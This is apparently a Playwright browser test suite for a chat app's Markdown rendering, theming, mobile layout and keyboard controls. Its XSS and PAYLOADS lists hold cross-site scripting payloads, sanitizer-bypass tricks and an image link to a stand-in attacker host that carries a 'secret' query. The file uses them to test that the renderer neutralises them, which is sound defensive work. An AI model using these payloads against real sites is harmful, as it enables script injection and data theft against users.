"""The chat page shows replies as Markdown, safely, in both themes, on a phone, by keyboard.

Replies whose exact text matters are stored in the database before the page loads (the
small demo model cannot be told what to write); live streaming runs on the real model.
"""
import re

import pytest
from playwright.sync_api import expect

from chat.models import Conversation, Message
from chat.services import conversation_create
from tests.browser.test_chat_page import (
    LAST_REPLY,
    STORY,
    log_in,
    new_conversation,
    send_message,
    socket_open,
    wait_for_status,
    wait_for_text,
)

pytestmark = pytest.mark.browser

CODE = "def by_length(words):\n    return sorted(words, key=len)"
MARKDOWN = f"""# Sorting in Python

| Function | Stable |
|---|---|
| `sorted` | yes |
| `list.sort` | yes |

```python
{CODE}
```

See [the sorting how-to](https://docs.python.org/3/howto/sorting.html).
"""

XSS = """Here is a picture: <img src=x onerror=alert(1)>

<script>alert(2)</script>

[click](javascript:alert(3)) and [shout](JaVaScRiPt:alert(4)) and [ref][evil]

<a href="javascript:alert(5)">raw link</a> <svg onload=alert(6)></svg>

![pixel](https://attacker.invalid/leak?q=secret)

```"><img src=x onerror=alert(7)>
print("fence with a hostile info string")
```

[evil]: javascript:alert(8)
"""

# Fed straight to the page's renderer: each must come out without script, handlers,
# embedded content or a link that is not http(s)/mailto.
PAYLOADS = [
    "<iframe srcdoc='<script>alert(10)</script>'></iframe>",
    "<style>body { display: none }</style>",
    "<form><button formaction=javascript:alert(11)>go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>",
    '<a href="java&#x09;script:alert(13)">tab</a>',
    "[entity](&#106;avascript:alert(14))",
    "[data](data:text/html,<script>alert(15)</script>)",
    "[vb](vbscript:msgbox(16))",
    "<javascript:alert(17)>",
    "![x](javascript:alert(18))",
    '<div style="position:fixed;inset:0" class="topbar" id="composer">cover</div>',
    "[relative](/admin/)",
    "- [x] done\n- [ ] <input type=text value=phish>",
]

INERT_CHECK = """
(root) => {
  const problems = [];
  for (const el of root.querySelectorAll("*")) {
    const tag = el.tagName.toLowerCase();
    if (["script", "iframe", "img", "svg", "math", "style", "form", "object", "embed"]
        .includes(tag)) problems.push(`<${tag}>`);
    if (tag === "input" && !(el.type === "checkbox" && el.disabled)) problems.push("input");
    // The page's own buttons: a code block's Copy, and each message's actions bar.
    const pagesOwn = el.classList.contains("copy-code") || el.closest(".message-actions");
    if (tag === "button" && !pagesOwn) problems.push("button");
    for (const attr of el.attributes) {
      if (attr.name.startsWith("on") || ["style", "id", "srcdoc", "formaction"]
          .includes(attr.name)) problems.push(`${tag}[${attr.name}]`);
    }
    if (el.hasAttribute("href") && !/^(https?:|mailto:)/i.test(el.getAttribute("href"))) {
      problems.push(`href=${el.getAttribute("href")}`);
    }
  }
  return problems;
}
"""


def seeded_conversation(owner, model, *, reply: str, question: str = "Show me.") -> Conversation:
    """A conversation with one finished exchange whose reply is exactly `reply`."""
    conversation = conversation_create(owner=owner, model=model)
    asked = Message.objects.create(conversation=conversation, role=Message.Role.USER,
                                   content=question)
    Message.objects.create(
        conversation=conversation, parent=asked, role=Message.Role.ASSISTANT,
        status=Message.Status.DONE,
        content=reply, prompt_tokens=12, completion_tokens=34, ttft_ms=56.4,
        tokens_per_second=78.94,
    )
    return conversation


def open_conversation(page, conversation: Conversation) -> None:
    page.goto(f"/chat/c/{conversation.pk}/")
    socket_open(page)


def background_luminance(page) -> float:
    rgb = page.evaluate("() => getComputedStyle(document.body).backgroundColor")
    red, green, blue = (int(n) / 255 for n in re.findall(r"\d+", rgb)[:3])
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def horizontal_overflow(page) -> int:
    return page.evaluate("() => document.documentElement.scrollWidth - window.innerWidth")


def test_a_stored_reply_renders_as_markdown_with_highlighted_code_and_a_copy_button(
    page, alice, demo_model, hub_url, artifacts
):
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=hub_url)
    conversation = seeded_conversation(alice, demo_model, reply=MARKDOWN)
    log_in(page, "alice", "alice-password-1")
    open_conversation(page, conversation)

    reply = page.locator(LAST_REPLY)
    view = reply.locator(".markdown")
    expect(view.locator("h1")).to_have_text("Sorting in Python")
    expect(view.locator("table th")).to_have_text(["Function", "Stable"])
    expect(view.locator("table td")).to_have_count(4)
    code = view.locator("pre code.language-python")
    expect(code).to_have_text(CODE)
    expect(code.locator(".hljs-keyword").first).to_have_text("def")
    assert code.locator(".hljs-title").count() >= 1
    link = view.get_by_role("link", name="the sorting how-to")
    expect(link).to_have_attribute("href", "https://docs.python.org/3/howto/sorting.html")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    assert reply.locator(".content").is_hidden()
    # The user's words stay plain text, Markdown or not.
    expect(page.locator(".message.user .content")).to_have_text("Show me.")

    stats = reply.locator(".stats").text_content()
    assert demo_model.name in stats
    for part in ("12 prompt tokens", "34 tokens", "first token 56 ms", "78.9 tokens/s"):
        assert part in stats, stats

    copy = view.get_by_role("button", name="Copy python")
    copy.click()
    expect(copy).to_have_text("Copied")
    assert page.evaluate("() => navigator.clipboard.readText()") == CODE
    expect(page.locator("#reply-status")).to_have_text("Code copied.")
    page.screenshot(path=artifacts / "chat-markdown.png", full_page=True)


def test_a_streamed_reply_is_rendered_while_it_streams_and_announced_once_at_the_end(
    page, alice, demo_model
):
    log_in(page, "alice", "alice-password-1")
    conversation = new_conversation(page, demo_model)
    send_message(page, "Write a short Markdown list of three fruits under a heading.")
    wait_for_text(page)
    reply = page.locator(LAST_REPLY)
    # The live region stays quiet while tokens arrive; the reply itself is marked busy.
    assert page.locator("#reply-status").text_content() == ""
    expect(reply).to_have_attribute("aria-busy", "true")
    expect(reply.locator(".markdown")).not_to_be_empty()

    wait_for_status(page, "done")
    stored = conversation.messages.get(role=Message.Role.ASSISTANT)
    assert reply.locator(".content").text_content() == stored.content
    assert reply.get_attribute("aria-busy") is None
    rendered = reply.locator(".markdown").inner_text()
    assert rendered.strip()
    announced = page.locator("#reply-status").text_content()
    assert announced.startswith(f"{demo_model.name} replied. ")
    stats = reply.locator(".stats").text_content()
    assert re.search(rf"\b{stored.completion_tokens} tokens\b", stats), stats


def test_hostile_markdown_in_a_reply_renders_inert(page, alice, demo_model, artifacts):
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    conversation = seeded_conversation(
        alice, demo_model, reply=XSS, question="<img src=x onerror=alert(9)> hello"
    )
    log_in(page, "alice", "alice-password-1")
    open_conversation(page, conversation)

    reply = page.locator(LAST_REPLY)
    expect(reply.locator(".markdown")).to_contain_text("<img src=x onerror=alert(1)>")
    expect(reply.locator(".markdown")).to_contain_text("<script>alert(2)</script>")
    expect(page.locator(".message.user .content")).to_have_text(
        "<img src=x onerror=alert(9)> hello"
    )
    messages = page.locator("#messages")
    assert messages.locator("script, img, svg, iframe").count() == 0
    assert messages.locator("[onerror], [onload]").count() == 0
    click = reply.locator("a", has_text="click")
    expect(click).to_have_count(1)
    assert click.get_attribute("href") is None
    assert messages.evaluate(INERT_CHECK) == []
    page.wait_for_timeout(500)  # time for anything that slipped through to fire
    assert dialogs == []
    assert not [url for url in requests if "attacker.invalid" in url]
    page.screenshot(path=artifacts / "chat-xss.png", full_page=True)


def test_the_renderer_neutralises_known_sanitizer_bypasses(page, alice, demo_model):
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    conversation = seeded_conversation(alice, demo_model, reply="ok")
    log_in(page, "alice", "alice-password-1")
    open_conversation(page, conversation)

    problems = page.evaluate(
        """async ([payloads, check]) => {
          const { markdownRender } = await import("/static/chat/markdown.js");
          const inert = eval(check);
          const found = {};
          for (const text of payloads) {
            const box = document.createElement("div");
            box.append(markdownRender(text));
            document.body.append(box);  // attached, so anything live would run
            const problems = inert(box);
            if (problems.length) found[text] = problems;
          }
          return found;
        }""",
        [PAYLOADS, INERT_CHECK],
    )
    page.wait_for_timeout(500)
    assert problems == {}
    assert dialogs == []


def test_dark_mode_follows_the_system_and_the_toggle_overrides_it(
    page, alice, demo_model, artifacts
):
    page.emulate_media(color_scheme="dark")
    conversation = seeded_conversation(alice, demo_model, reply=MARKDOWN)
    log_in(page, "alice", "alice-password-1")
    open_conversation(page, conversation)

    toggle = page.get_by_role("button", name="Dark theme")
    assert background_luminance(page) < 0.2
    expect(toggle).to_have_attribute("aria-pressed", "true")
    page.screenshot(path=artifacts / "chat-dark.png", full_page=True)

    toggle.click()
    assert background_luminance(page) > 0.8
    expect(toggle).to_have_attribute("aria-pressed", "false")
    page.reload()
    assert background_luminance(page) > 0.8, "the reader's choice outlasts a reload"

    page.emulate_media(color_scheme="light")
    page.get_by_role("button", name="Dark theme").click()
    assert background_luminance(page) < 0.2
    assert page.evaluate("() => localStorage.getItem('llmhub-theme')") == "dark"


def test_on_a_phone_nothing_scrolls_sideways_and_the_composer_sends(
    page, alice, demo_model, artifacts
):
    demo_model.max_tokens = 40
    demo_model.save()
    wide = (
        "```text\n" + "x" * 300 + "\n```\n\n| " + " | ".join(f"column {n}" for n in range(12))
        + " |\n|" + "---|" * 12 + "\n| " + " | ".join("cell" for _ in range(12)) + " |\n\n"
        + "https://example.com/" + "a" * 200
    )
    conversation = seeded_conversation(alice, demo_model, reply=wide, question="y" * 200)
    page.set_viewport_size({"width": 390, "height": 844})
    log_in(page, "alice", "alice-password-1")
    open_conversation(page, conversation)

    assert page.evaluate("() => document.documentElement.scrollWidth") <= 390
    assert horizontal_overflow(page) <= 0
    send = page.get_by_role("button", name="Send")
    box = send.bounding_box()
    assert box["x"] >= 0 and box["x"] + box["width"] <= 390

    page.get_by_label("Message", exact=True).fill("Say hello.")
    send.click()
    expect(page.locator(".message.assistant")).to_have_count(2)
    wait_for_status(page, "done")
    expect(page.locator(".message.user .content").last).to_have_text("Say hello.")
    assert conversation.messages.filter(content="Say hello.").exists()
    assert page.evaluate("() => document.documentElement.scrollWidth") <= 390
    # What the phone shows, sticky composer included; a full-page shot would misplace it.
    page.evaluate("() => window.scrollTo(0, document.documentElement.scrollHeight)")
    page.screenshot(path=artifacts / "chat-phone.png")


def test_enter_sends_and_shift_enter_starts_a_new_line(page, alice, demo_model):
    demo_model.max_tokens = 40
    demo_model.save()
    log_in(page, "alice", "alice-password-1")
    conversation = new_conversation(page, demo_model)

    prompt = page.get_by_label("Message", exact=True)
    prompt.fill("first line")
    prompt.press("Shift+Enter")
    prompt.press_sequentially("second line")
    assert prompt.input_value() == "first line\nsecond line"
    page.wait_for_timeout(500)
    assert not conversation.messages.exists()

    prompt.press("Enter")
    wait_for_status(page, "done")
    assert prompt.input_value() == ""
    stored = conversation.messages.get(role=Message.Role.USER)
    assert stored.content == "first line\nsecond line"

    prompt.focus()
    page.keyboard.press("Tab")
    send = page.get_by_role("button", name="Send")
    expect(send).to_be_focused()
    assert send.evaluate("(el) => getComputedStyle(el).outlineStyle") != "none"


def test_escape_stops_a_streaming_reply(page, alice, demo_model):
    demo_model.max_tokens = 2000
    demo_model.save()
    log_in(page, "alice", "alice-password-1")
    conversation = new_conversation(page, demo_model)
    send_message(page, STORY)
    wait_for_text(page)

    page.keyboard.press("Escape")
    reply = wait_for_status(page, "cancelled")

    assert "stopped" in reply.locator(".stats").text_content()
    stored = conversation.messages.get(role=Message.Role.ASSISTANT)
    assert stored.status == Message.Status.CANCELLED
    assert stored.completion_tokens < 2000
    expect(page.locator("#reply-status")).to_contain_text("Reply stopped.")
